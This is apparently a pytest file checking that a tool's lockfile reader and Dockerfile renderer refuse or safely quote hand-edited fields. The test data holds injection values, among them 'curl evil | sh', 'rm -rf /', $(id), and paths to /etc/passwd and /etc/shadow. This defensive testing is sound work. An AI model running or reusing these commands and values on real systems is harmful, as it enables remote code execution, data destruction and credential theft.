"""A lock is data (issue 20): hand-edited fields are refused on read, or render no extra instruction."""

from __future__ import annotations

import dataclasses
from pathlib import Path
from typing import Any

import pytest
import tomlkit

from mlenv import lockfile
from mlenv.errors import BuildError, LockfileError
from mlenv.model.lock import Lock
from mlenv.model.spec import AppSpec, BaseSpec, ModelSpec, PythonSpec, Spec
from mlenv.model.urls import redact, redact_text
from mlenv.render import render
from mlenv.render.quote import quote
from mlenv.resolve.freshness import stale_reasons
from mlenv.spec import spec_hash
from tests.lockdata import full_lock

GOLDEN = Path(__file__).parent / "fixtures" / "golden" / "mlenv.lock"


def _edited(path: tuple[str | int, ...], value: Any) -> str:
    """The golden lock with the value at `path` replaced (a hand edit of the TOML)."""
    doc = tomlkit.parse(GOLDEN.read_text(encoding="utf-8"))
    node: Any = doc
    for part in path[:-1]:
        node = node[part]
    node[path[-1]] = value
    return tomlkit.dumps(doc)


def instructions(dockerfile: str) -> list[str]:
    """The instruction keywords of a Dockerfile, the way its parser splits them: comments and blank
    lines dropped, a line ending in a backslash continued on the next."""
    keywords, pending = [], ""
    for line in dockerfile.split("\n"):
        if not pending and (not line.strip() or line.lstrip().startswith("#")):
            continue
        if pending and line.lstrip().startswith("#"):
            continue  # comment lines inside a continuation are dropped too
        pending += line
        if pending.endswith("\\"):
            pending = pending[:-1]
            continue
        keywords.append(pending.split(None, 1)[0].upper())
        pending = ""
    return keywords


def _dockerfile(lock: Lock) -> str:
    return render(lock, lock_digest="sha256:" + "0" * 64, mlenv_version="0").get("Dockerfile").decode()


CLEAN = instructions(_dockerfile(lockfile.loads(GOLDEN.read_text(encoding="utf-8"))))

INJECTIONS = [
    (("app", "user"), "app\nRUN curl evil | sh", "app.user"),
    (("app", "user"), "app; curl evil | sh", "app.user"),
    (("app", "user"), "root --uid 0 -o x", "app.user"),
    (("python", "packages", 1, "version"), "2.0.3\nRUN id", "python.packages[1].version"),
    (("python", "packages", 1, "version"), "2.0.3 --index-url http://evil", "python.packages[1].version"),
    (("apt", "packages", 0, "version"), "7.88.1 $(id)", "apt.packages[0].version"),
    (("app", "env", "A"), "x\nRUN curl evil | sh", "app.env"),
    (("apt", "packages", 0, "filename"), "../../../etc/passwd.deb", "apt.packages[0].filename"),
    (("apt", "packages", 0, "filename"), "/etc/x.deb", "apt.packages[0].filename"),
    (("apt", "packages", 0, "filename"), "pool/x.deb; rm -rf /", "apt.packages[0].filename"),
    (("apt", "packages", 0, "name"), "curl\nRUN id", "apt.packages[0].name"),
    (("python", "venv"), "/opt/venv; curl evil", "python.venv"),
    (("app", "workdir"), "/app\nUSER root", "app.workdir"),
    (("app", "workdir"), "/$HOME", "app.workdir"),
    (("app", "healthcheck"), "curl x \\", "app.healthcheck"),
    (("app", "healthcheck"), "[not json", "app.healthcheck"),
    (("models", 0, "target"), "/app/m' ; id ; '", "models[0].target"),
    (("models", 0, "source"), "../../etc/shadow", "models[0].source"),
    (("base", "repository"), "x@sha256:1 AS evil\nRUN id", "base.repository"),
    (("python", "packages", 1, "wheels", 0, "name"), "../evil.whl", "python.packages[1].wheels[0].name"),
    (("python", "packages", 1, "marker"), "os_name == 'x' --hash=sha256:00", "python.packages[1].marker"),
    (("app", "port"), 70000, "app.port"),
]


@pytest.mark.parametrize(
    ("path", "value", "key"), INJECTIONS, ids=[f"{i[2]}-{n}" for n, i in enumerate(INJECTIONS)]
)
def test_an_injected_field_is_refused_naming_the_file_and_key(
    path: tuple[str | int, ...], value: Any, key: str
) -> None:
    with pytest.raises(LockfileError) as caught:
        lockfile.loads(_edited(path, value), path="mlenv.lock")
    message = str(caught.value)
    assert message.startswith(f"mlenv.lock: {key}"), message
    assert "\n" not in message


HOSTILE = ['a"b', "a\\", '\\"', "$HOME", "${PATH}", "'", '"; RUN id; "', '{"a": [1, "x\\"y"]}', "`id`", "é ü"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_env_value_renders_no_extra_instruction_and_round_trips(value: str) -> None:
    text = _edited(("app", "env", "A"), value)
    lock = lockfile.loads(text)
    dockerfile = _dockerfile(lock)
    assert instructions(dockerfile) == CLEAN
    (line,) = [x for x in dockerfile.splitlines() if x.startswith("ENV A=")]
    assert _docker_unquote(line.removeprefix("ENV A=")) == value


def _docker_unquote(word: str) -> str:
    """What the Dockerfile parser makes of a double-quoted ENV word: `\\` escapes `"`, `$` and `\\`;
    an unescaped `$` would be expanded, so none may remain."""
    assert word.startswith('"') and word.endswith('"')
    inner, out, index = word[1:-1], "", 0
    while index < len(inner):
        char = inner[index]
        if char == "\\" and index + 1 < len(inner) and inner[index + 1] in '"$\\':
            out, index = out + inner[index + 1], index + 2
            continue
        assert char not in '"$', f"unescaped {char!r} in {word}"
        out, index = out + char, index + 1
    return out


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_cmd_and_label_values_render_no_extra_instruction(value: str) -> None:
    lock = full_lock()
    lock = dataclasses.replace(
        lock,
        name=value,
        app=dataclasses.replace(lock.app, cmd=(value, "x")),
        base=dataclasses.replace(lock.base, reference="127.0.0.1:5000/x:1") if lock.base else None,
    )
    assert instructions(_dockerfile(lock)) == CLEAN


def test_quote_refuses_what_no_quoting_survives() -> None:
    for into in ("shell", "word", "json", "line"):
        with pytest.raises(BuildError):
            quote("a\nRUN id", into=into)
    with pytest.raises(BuildError, match="trailing backslash"):
        quote("curl x \\", into="line")
    assert quote("a'b", into="shell") == "'a'\"'\"'b'"
    assert quote('a"$b\\', into="word") == '"a\\"\\$b\\\\"'


def test_render_holds_a_lock_made_elsewhere_to_the_same_grammar() -> None:
    lock = full_lock()
    bad = dataclasses.replace(lock, app=dataclasses.replace(lock.app, user="app\nRUN id"))
    with pytest.raises(BuildError, match=r"app\.user"):
        _dockerfile(bad)


# --------------------------------------------------------------------------- URLs


def _wheel_url(url: str, *, index: str | None = None) -> str:
    text = _edited(("python", "packages", 1, "wheels", 0, "url"), url)
    if index is not None:
        doc = tomlkit.parse(text)
        doc["python"]["index-url"] = index
        text = tomlkit.dumps(doc)
    return text


@pytest.mark.parametrize(
    "url",
    [
        "http://files.example.org/pandas.whl",
        "file:///etc/passwd",
        "https://127.0.0.1/pandas.whl",
        "https://localhost:8443/pandas.whl",
        "https://[::1]/pandas.whl",
        "ftp://files.example.org/pandas.whl",
        "https://user:secret@files.example.org/pandas.whl",
    ],
)
def test_a_wheel_url_is_https_to_a_remote_host(url: str) -> None:
    with pytest.raises(LockfileError) as caught:
        lockfile.loads(_wheel_url(url), path="mlenv.lock")
    assert str(caught.value).startswith("mlenv.lock: python.packages[1].wheels[0].url: ")
    assert "secret" not in str(caught.value)


def test_another_scheme_or_loopback_only_on_the_host_of_a_recorded_index() -> None:
    lockfile.loads(_wheel_url("http://127.0.0.1:9/files/p.whl", index="http://127.0.0.1:9/simple"))
    with pytest.raises(LockfileError, match=r"wheels\[0\]\.url"):
        lockfile.loads(_wheel_url("http://127.0.0.1:10/files/p.whl", index="http://127.0.0.1:9/simple"))
    lockfile.loads(_wheel_url("file:///srv/wheels/p.whl", index="file:///srv/wheels"))


def test_a_recorded_index_with_credentials_is_refused_and_the_writer_strips_them() -> None:
    with pytest.raises(LockfileError, match="python.index-url: a URL carries credentials"):
        lockfile.loads(_edited(("python", "index-url"), "https://u:secret@pypi.example/simple"))
    lock = full_lock()
    leaky = dataclasses.replace(
        lock,
        python=dataclasses.replace(
            lock.python,
            index_url="https://u:secret@pypi.example/simple",
            extra_index_urls=("https://tok@x.example/simple",),
        ),
        apt=dataclasses.replace(
            lock.apt,
            sources=(dataclasses.replace(lock.apt.sources[0], mirror="http://u:secret@deb.example/d"),),
        ),
    )
    text = lockfile.dumps(leaky)
    assert "secret" not in text and "tok@" not in text
    lockfile.loads(text)


def test_redact() -> None:
    assert redact("https://u:p@[::1]:8080/simple") == "https://[::1]:8080/simple"
    assert redact("https://u@h.example/x?q=1") == "https://h.example/x?q=1"
    assert redact("https://h.example/x") == "https://h.example/x"
    assert (
        redact_text("cannot reach http://a:b@h/x or https://c@d:1/y")
        == "cannot reach http://h/x or https://d:1/y"
    )


# --------------------------------------------------------------------------- other reader errors


def test_bytes_that_are_not_utf8_are_one_line() -> None:
    with pytest.raises(LockfileError, match=r"^mlenv.lock: not UTF-8"):
        lockfile.loads(b'name = "\xff"\n', path="mlenv.lock")


def test_deep_nesting_is_one_line() -> None:
    with pytest.raises(LockfileError, match="^mlenv.lock: "):
        lockfile.loads("x = " + "[" * 100_000 + "]" * 100_000, path="mlenv.lock")


def test_a_date_where_a_string_belongs_is_refused() -> None:
    text = GOLDEN.read_text(encoding="utf-8").replace('name = "golden"', "name = 2024-01-01")
    with pytest.raises(LockfileError, match="mlenv.lock: name: is a TOML date"):
        lockfile.loads(text, path="mlenv.lock")
    text = GOLDEN.read_text(encoding="utf-8").replace("as-of = 2024-07-01T00:00:00Z", 'as-of = "soon"')
    with pytest.raises(LockfileError, match="mlenv.lock: as-of: "):
        lockfile.loads(text, path="mlenv.lock")


# --------------------------------------------------------------------------- lock --check


def _spec(tmp_path: Path) -> Spec:
    return Spec(
        path=str(tmp_path / "mlenv.toml"),
        project_dir=str(tmp_path),
        name="golden",
        base=BaseSpec(
            image="127.0.0.1:5000/mlenv-test/bookworm-python:1", platforms=("linux/amd64", "linux/arm64")
        ),
        python=PythonSpec(requirements=("pandas==2.0.3",)),
        app=AppSpec(
            copy=("app",),
            cmd=("uvicorn", "app.main:app"),
            port=8000,
            healthcheck="/health",
            env=(("A", '1 "quoted"'), ("B", "2")),
            models=(ModelSpec(source="models/model.joblib", target="/app/models/model.joblib"),),
        ),
        as_of=full_lock().as_of,
    )


def _fresh(tmp_path: Path) -> tuple[Spec, Lock]:
    spec = _spec(tmp_path)
    model = tmp_path / "models" / "model.joblib"
    model.parent.mkdir()
    model.write_bytes(b"m")
    import hashlib

    lock = full_lock()
    models = (dataclasses.replace(lock.models[0], sha256=hashlib.sha256(b"m").hexdigest()),)
    return spec, dataclasses.replace(
        lock, spec_hash=spec_hash(spec), models=models, cuda=dataclasses.replace(lock.cuda, requested="none")
    )


def test_check_passes_the_lock_of_the_spec(tmp_path: Path) -> None:
    spec, lock = _fresh(tmp_path)
    assert stale_reasons(spec, lock) == []


@pytest.mark.parametrize(
    ("edit", "key"),
    [
        (lambda lock: dataclasses.replace(lock, name="other"), "name"),
        (lambda lock: dataclasses.replace(lock, app=dataclasses.replace(lock.app, user="root")), "app.user"),
        (
            lambda lock: dataclasses.replace(lock, app=dataclasses.replace(lock.app, env=(("A", "x"),))),
            "app.env",
        ),
        (lambda lock: dataclasses.replace(lock, app=dataclasses.replace(lock.app, cmd=("sh",))), "app.cmd"),
        (
            lambda lock: dataclasses.replace(lock, app=dataclasses.replace(lock.app, workdir="/")),
            "app.workdir",
        ),
        (lambda lock: dataclasses.replace(lock, app=dataclasses.replace(lock.app, port=1)), "app.port"),
        (
            lambda lock: dataclasses.replace(lock, app=dataclasses.replace(lock.app, copy=("etc",))),
            "app.copy",
        ),
        (
            lambda lock: dataclasses.replace(
                lock, python=dataclasses.replace(lock.python, index_url="http://127.0.0.1/simple")
            ),
            "python.index-url",
        ),
        (
            lambda lock: dataclasses.replace(lock, python=dataclasses.replace(lock.python, venv="/usr")),
            "python.venv",
        ),
        (
            lambda lock: dataclasses.replace(lock, base=dataclasses.replace(lock.base, reference="evil:1")),
            "base.reference",
        ),
        (
            lambda lock: dataclasses.replace(lock, cuda=dataclasses.replace(lock.cuda, requested="12.1")),
            "cuda.requested",
        ),
        (
            lambda lock: dataclasses.replace(
                lock, models=(dataclasses.replace(lock.models[0], strategy="mount"),)
            ),
            "models",
        ),
        (lambda lock: dataclasses.replace(lock, as_of=None), "as-of"),
    ],
)
def test_check_finds_every_spec_determined_field_edited(tmp_path: Path, edit: Any, key: str) -> None:
    spec, lock = _fresh(tmp_path)
    reasons = stale_reasons(spec, edit(lock))
    assert [r for r in reasons if r.startswith(f"{key}: the lock says ")], reasons
    assert not any("spec-hash" in r for r in reasons)  # the hash was left alone: the projection found it


def test_a_failed_fetch_names_the_file_without_the_mirror_credentials(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from mlenv.build import artifacts
    from mlenv.sources import http
    from mlenv.sources.cas import ContentStore

    def refused(url: str) -> Any:
        raise ConnectionError(f"cannot reach {url}")

    monkeypatch.setattr(http, "download_chunks", refused)
    artifact = artifacts.Artifact(
        filename="curl.deb", sha256="c" * 64, urls=("http://u:secret@deb.example/pool/curl.deb",)
    )
    with pytest.raises(BuildError) as caught:
        artifacts.fetch([artifact], ContentStore(tmp_path), lambda _: None)
    assert str(caught.value) == (
        f"cannot fetch curl.deb: not in the cache ({tmp_path}); cannot reach http://deb.example/pool/curl.deb"
    )
